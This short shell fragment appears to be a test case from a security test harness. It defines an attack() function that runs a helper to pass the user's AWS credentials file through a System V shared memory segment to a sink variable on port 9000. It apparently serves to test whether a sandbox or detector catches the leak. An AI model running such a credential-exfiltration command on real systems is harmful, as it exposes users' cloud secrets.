# SPDX-License-Identifier: Apache-2.0
TITLE="a System V segment attached when the secret is in it"
attack() { "$PROVOKE/shm" late "$HOME/.aws/credentials" "$SINK4" 9000; }
